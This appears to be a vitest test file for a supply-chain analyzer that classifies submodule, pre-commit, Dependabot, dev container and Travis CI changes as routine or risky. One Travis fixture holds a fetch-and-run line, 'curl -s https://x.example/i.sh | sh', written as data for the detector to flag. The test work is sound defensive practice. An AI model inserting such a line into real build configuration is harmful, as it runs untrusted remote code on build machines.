import { describe, expect, it } from 'vitest';
import { analyzeSupplyChain } from '../../../src/analyzers/supply-chain.js';
import { isRoutineCiChange } from '../../../src/ecosystems/api.js';
import { gitlinkChange } from '../../../src/ecosystems/automation/submodule-pointer.js';
import { makeContext, makeFile, makeSnapshot } from '../../support/snapshot-factory.js';
import { change, snapshotOf } from '../../support/supply-chain-snapshot.js';

/**
 * Automation audits added with the zizmor parity work: dependabot-cooldown, insecure-url-scheme,
 * pre-commit-archived-repo, git-submodule-pointer-moved, and the routine edits of pre-commit and
 * dev container configuration.
 */

function found(path: string, base: string | null, head: string | null): string[] {
  const snapshot = snapshotOf(change(path, base, head));
  return analyzeSupplyChain(snapshot, makeContext(undefined, snapshot)).findings.map((f) => `${f.id}:${f.severity}`).sort();
}

const A = 'a'.repeat(40);
const B = 'b'.repeat(40);
const gitlinkPatch = `@@ -1 +1 @@\n-Subproject commit ${A}\n+Subproject commit ${B}`;
const mod = (url: string, path = 'vendor/proto') => `[submodule "${path}"]\n\tpath = ${path}\n\turl = ${url}\n`;

function pointerFindings(options: { gitmodules?: { base: string | null; head: string | null }; baseGitmodules?: string; patch?: string }): string[] {
  const files = [makeFile('vendor/proto', { patch: options.patch ?? gitlinkPatch, additions: 1, deletions: 1 })];
  const contents = [];
  if (options.gitmodules) {
    files.push(makeFile('.gitmodules', { status: options.gitmodules.base === null ? 'added' : 'modified' }));
    contents.push({ path: '.gitmodules', ...options.gitmodules });
  }
  const snapshot = makeSnapshot({ files, contents, baseFiles: options.baseGitmodules ? [{ path: '.gitmodules', content: options.baseGitmodules }] : [] });
  return analyzeSupplyChain(snapshot, makeContext(undefined, snapshot))
    .findings.filter((f) => f.id === 'git-submodule-pointer-moved')
    .map((f) => `${f.severity}:${f.path}:${f.line}`);
}

describe('git-submodule-pointer-moved', () => {
  it('reads a gitlink patch', () => {
    expect(gitlinkChange(gitlinkPatch)).toEqual({ from: A, to: B });
    expect(gitlinkChange('@@ -1 +1 @@\n-const a = 1;\n+const a = 2;')).toBeNull();
  });

  it('is high when the same PR moves the URL and the pointer, medium outside GitHub, low for another owner', () => {
    expect(pointerFindings({ gitmodules: { base: mod('https://github.com/acme/proto.git'), head: mod('https://git.example.net/acme/proto.git') } })).toEqual(['high:vendor/proto:1']);
    expect(pointerFindings({ baseGitmodules: mod('https://git.example.net/someone/proto.git') })).toEqual(['medium:vendor/proto:1']);
    expect(pointerFindings({ baseGitmodules: mod('https://github.com/googleapis/googleapis.git') })).toEqual(['low:vendor/proto:1']);
    expect(pointerFindings({})).toEqual(['low:vendor/proto:1']);
  });

  it("is only a note (info) for the repository's own organization or a relative URL, and absent when no gitlink moves", () => {
    expect(pointerFindings({ baseGitmodules: mod('https://github.com/acme/proto.git') })).toEqual(['info:vendor/proto:1']);
    expect(pointerFindings({ baseGitmodules: mod('../proto.git') })).toEqual(['info:vendor/proto:1']);
    expect(pointerFindings({ baseGitmodules: mod('https://github.com/acme/proto.git'), patch: '@@ -1 +1 @@\n-x\n+y' })).toEqual([]);
  });
});

describe('dependabot-cooldown', () => {
  const dependabot = (cooldown: boolean) => `version: 2\nupdates:\n  - package-ecosystem: npm\n    directory: /\n    schedule:\n      interval: weekly\n${cooldown ? '    cooldown:\n      default-days: 7\n' : ''}`;
  it('notes (info) a new update without cooldown', () => {
    expect(found('.github/dependabot.yml', null, dependabot(false))).toEqual(['dependabot-cooldown:info']);
  });
  it('is quiet with a cooldown, or when the entry was already there', () => {
    expect(found('.github/dependabot.yml', null, dependabot(true))).toEqual([]);
    expect(found('.github/dependabot.yml', dependabot(false), dependabot(false).replace('weekly', 'daily'))).toEqual([]);
  });
});

describe('insecure-url-scheme and pre-commit-archived-repo', () => {
  const cfg = (repo: string, rev = 'v1.0.0') => `repos:\n  - repo: ${repo}\n    rev: ${rev}\n    hooks:\n      - id: check\n`;
  it('reports hooks or submodules fetched over http:// or git://, and archived hook repositories', () => {
    expect(found('.pre-commit-config.yaml', null, cfg('http://git.example.org/hooks'))).toEqual(['insecure-url-scheme:medium', 'pre-commit-remote-hook:medium', 'pre-commit-rev-moved:low']);
    expect(found('.gitmodules', null, mod('git://github.com/protocorp/proto.git'))).toEqual(['git-submodule:medium', 'insecure-url-scheme:medium']);
    expect(found('.pre-commit-config.yaml', cfg('https://github.com/psf/black'), cfg('https://github.com/psf/black') + cfg('https://github.com/pre-commit/mirrors-prettier', 'v3.1.0').replace('repos:\n', ''))).toEqual([
      'pre-commit-archived-repo:low',
      'pre-commit-remote-hook:low',
      'pre-commit-rev-moved:low',
    ]);
  });
  it('is quiet over https:// and ssh', () => {
    expect(found('.gitmodules', null, mod('git@github.com:protocorp/proto.git'))).toEqual(['git-submodule:medium']);
    expect(found('.pre-commit-config.yaml', null, cfg('https://github.com/psf/black'))).toEqual(['pre-commit-remote-hook:low', 'pre-commit-rev-moved:low']);
  });
});

describe('routine pre-commit and dev container edits', () => {
  const cfg = (ruffRev: string, blackRev: string, ruffUrl = 'https://github.com/astral-sh/ruff-pre-commit') =>
    `ci:\n  autoupdate_schedule: weekly\nrepos:\n  - repo: ${ruffUrl}\n    rev: ${ruffRev}\n    hooks:\n      - id: ruff\n        args: [--fix]\n  - repo: https://github.com/psf/black\n    rev: ${blackRev}\n    hooks:\n      - id: black\n`;
  it('treats rev bumps (the pre-commit.ci bot) and argument changes as routine', () => {
    expect(isRoutineCiChange('.pre-commit-config.yaml', cfg('v0.7.0', '24.8.0'), cfg('v0.8.1', '24.10.0'))).toBe(true);
    expect(isRoutineCiChange('.pre-commit-config.yaml', cfg('v0.7.0', '24.8.0'), cfg('v0.7.0', '24.8.0').replace('[--fix]', '[--fix, --exit-non-zero-on-fix]'))).toBe(true);
  });
  it('treats a GitHub URL respelled in case or with .git as the same repository; another repository or host is not (calib50)', () => {
    expect(isRoutineCiChange('.pre-commit-config.yaml', cfg('v0.7.0', '24.8.0'), cfg('v0.7.0', '24.8.0', 'https://github.com/Astral-SH/ruff-pre-commit'))).toBe(true);
    expect(isRoutineCiChange('.pre-commit-config.yaml', cfg('v0.7.0', '24.8.0'), cfg('v0.8.1', '24.8.0', 'https://github.com/astral-sh/ruff-pre-commit.git'))).toBe(true);
    expect(isRoutineCiChange('.pre-commit-config.yaml', cfg('v0.7.0', '24.8.0'), cfg('v0.7.0', '24.8.0', 'https://github.com/astral-sh/ruff-pre-commit-fork'))).toBe(false);
    expect(isRoutineCiChange('.pre-commit-config.yaml', cfg('v0.7.0', '24.8.0', 'https://git.example.net/astral-sh/ruff'), cfg('v0.7.0', '24.8.0', 'https://git.example.net/Astral-SH/ruff'))).toBe(false);
  });
  it('does not treat a moved repository, a new hook or new dependencies as routine', () => {
    expect(isRoutineCiChange('.pre-commit-config.yaml', cfg('v0.7.0', '24.8.0'), cfg('v0.7.0', '24.8.0', 'https://git.example.net/astral-sh/ruff-pre-commit'))).toBe(false);
    expect(isRoutineCiChange('.pre-commit-config.yaml', cfg('v0.7.0', '24.8.0'), cfg('v0.7.0', '24.8.0').replace('      - id: black\n', '      - id: black\n        additional_dependencies: [evil]\n'))).toBe(false);
    expect(isRoutineCiChange('.pre-commit-config.yaml', cfg('v0.7.0', '24.8.0'), cfg('v0.7.0', '24.8.0') + '  - repo: local\n    hooks:\n      - id: x\n        entry: ./x.sh\n        language: system\n')).toBe(false);
  });

  it('treats a hook that only drops additional_dependencies as routine, and one that adds or changes one as not', () => {
    const withDeps = (deps: string) => cfg('v0.7.0', '24.8.0').replace('      - id: black\n', `      - id: black\n        additional_dependencies: [${deps}]\n`);
    // codespell's tomli dropped, arguments changed beside it: the hook installs less.
    expect(isRoutineCiChange('.pre-commit-config.yaml', withDeps("tomli, 'click==8.1.7'"), withDeps("'click==8.1.7'").replace('[--fix]', "['--write-changes']"))).toBe(true);
    expect(isRoutineCiChange('.pre-commit-config.yaml', withDeps('tomli'), cfg('v0.7.0', '24.8.0'))).toBe(true);
    // One added beside one dropped, or a version changed: another package installed.
    expect(isRoutineCiChange('.pre-commit-config.yaml', withDeps("tomli, 'click==8.1.7'"), withDeps("'click==8.1.7', tomlii"))).toBe(false);
    expect(isRoutineCiChange('.pre-commit-config.yaml', withDeps("'click==8.1.7'"), withDeps("'click==8.1.8'"))).toBe(false);
    expect(isRoutineCiChange('.pre-commit-config.yaml', withDeps('tomli'), withDeps('tomli').replace('      - id: black\n', '      - id: black\n        entry: ./fmt.sh\n'))).toBe(false);
  });

  it('treats hooks added, renamed or removed by id from the repositories already listed as routine', () => {
    const base = cfg('v0.7.0', '24.8.0');
    // pre-commit-hooks style: more of the same repository's published hooks, one with arguments.
    expect(isRoutineCiChange('.pre-commit-config.yaml', base, base.replace('      - id: black\n', '      - id: black\n      - id: black-jupyter\n        args: [--quiet]\n'))).toBe(true);
    // ruff's hook renamed with the rev that renames it (ruff -> ruff-check), its arguments kept.
    expect(isRoutineCiChange('.pre-commit-config.yaml', base, cfg('v0.9.0', '24.8.0').replace('- id: ruff\n', '- id: ruff-check\n'))).toBe(true);
    expect(isRoutineCiChange('.pre-commit-config.yaml', base, base.replace('      - id: black\n', ''))).toBe(true);
  });
  it('does not treat a hook added with an entry, a language or dependencies of its own as routine', () => {
    const base = cfg('v0.7.0', '24.8.0');
    for (const extra of ['        entry: ./fmt.sh\n', '        language: system\n', '        additional_dependencies: [black-plugin]\n']) {
      expect(isRoutineCiChange('.pre-commit-config.yaml', base, base.replace('      - id: black\n', `      - id: black\n      - id: black-extra\n${extra}`)), extra).toBe(false);
    }
    expect(isRoutineCiChange('.pre-commit-config.yaml', base, base.replace('      - id: black\n', '      - id: black\n      - name: no id\n'))).toBe(false);
  });

  const dc = (image: string, node: string, extra = '') =>
    `{\n  "name": "app",\n  "image": "${image}",\n  "features": { "ghcr.io/devcontainers/features/node:${node}": { "version": "lts" } },\n  "customizations": { "vscode": { "extensions": ["dbaeumer.vscode-eslint"] } }${extra}\n}\n`;
  it('treats image tag and feature version bumps as routine for dev containers', () => {
    expect(isRoutineCiChange('.devcontainer/devcontainer.json', dc('mcr.microsoft.com/devcontainers/typescript-node:1-20-bookworm', '1'), dc('mcr.microsoft.com/devcontainers/typescript-node:1-22-bookworm', '2'))).toBe(true);
  });
  it('does not treat another image or a lifecycle command as routine', () => {
    const base = dc('mcr.microsoft.com/devcontainers/typescript-node:1-20-bookworm', '1');
    expect(isRoutineCiChange('.devcontainer/devcontainer.json', base, dc('ghcr.io/someone/node:20', '1'))).toBe(false);
    expect(isRoutineCiChange('.devcontainer/devcontainer.json', base, dc('mcr.microsoft.com/devcontainers/typescript-node:1-20-bookworm', '1', ',\n  "postCreateCommand": "npm ci"'))).toBe(false);
  });
});

describe('routine Dependabot edits', () => {
  const entry = (ecosystem: string, extra = '') => `  - package-ecosystem: ${ecosystem}\n    directory: /\n    schedule:\n      interval: weekly\n${extra}`;
  const cfg = (...entries: string[]) => `version: 2\nupdates:\n${entries.join('')}`;
  it('treats a new update entry (another ecosystem) as routine', () => {
    expect(isRoutineCiChange('.github/dependabot.yml', cfg(entry('npm')), cfg(entry('npm'), entry('github-actions')))).toBe(true);
  });
  it('does not when the new entry may run code or gets registries', () => {
    expect(isRoutineCiChange('.github/dependabot.yml', cfg(entry('npm')), cfg(entry('npm'), entry('pip', '    insecure-external-code-execution: allow\n')))).toBe(false);
    expect(isRoutineCiChange('.github/dependabot.yml', cfg(entry('npm')), cfg(entry('npm'), entry('pip', '    registries: "*"\n')))).toBe(false);
  });
});

describe('routine Travis CI edits', () => {
  const travis = (rubies: string, jruby: string, extra = '') =>
    `language: ruby\ndist: focal\nrvm:\n${rubies}  - ${jruby}\nbefore_install:\n  - gem install bundler\nscript: bundle exec rake\nmatrix:\n  fast_finish: true\n  include:\n    - rvm: ${jruby}\n      env: JRUBY_OPTS=--dev\n  allow_failures:\n    - rvm: ruby-head\n${extra}`;
  const base = travis('  - 2.6.5\n  - 2.7.0\n', 'jruby-9.2.9.0');
  it('treats the interpreter versions, the hosted image and version-only matrix entries as routine', () => {
    expect(isRoutineCiChange('.travis.yml', base, travis('  - 2.6.6\n  - 2.7.1\n  - 3.0.0\n', 'jruby-9.2.11.0'))).toBe(true);
    expect(isRoutineCiChange('.travis.yml', base, base.replace('dist: focal', 'dist: jammy\nsudo: false'))).toBe(true);
    expect(isRoutineCiChange('.travis.yml', base, base.replace('    - rvm: ruby-head\n', '    - rvm: ruby-head\n    - rvm: jruby-head\n'))).toBe(true);
    expect(isRoutineCiChange('.travis.yml', base, base.replace('  allow_failures:\n    - rvm: ruby-head\n', ''))).toBe(true);
  });
  it('does not treat a command, env, a matrix entry that sets more than versions, or an addon source as routine', () => {
    expect(isRoutineCiChange('.travis.yml', base, base.replace('gem install bundler', 'curl -s https://x.example/i.sh | sh'))).toBe(false);
    expect(isRoutineCiChange('.travis.yml', base, base.replace('JRUBY_OPTS=--dev', 'JRUBY_OPTS=--dev RACK_VERSION=main'))).toBe(false);
    expect(isRoutineCiChange('.travis.yml', base, base.replace('    - rvm: ruby-head\n', '    - rvm: ruby-head\n    - rvm: 3.3\n      script: ./deploy.sh\n'))).toBe(false);
    expect(isRoutineCiChange('.travis.yml', base, base.replace('script: bundle exec rake', 'script: bundle exec rake\ndeploy:\n  provider: rubygems'))).toBe(false);
    const apt = (name: string) => base.replace('script:', `addons:\n  apt:\n    sources:\n      - name: ${name}\nscript:`);
    expect(isRoutineCiChange('.travis.yml', apt('ppa:ruby/stable'), apt('ppa:someone/else'))).toBe(false);
    expect(isRoutineCiChange('.travis.yml', base, 'rvm: [')).toBe(false);
  });
});
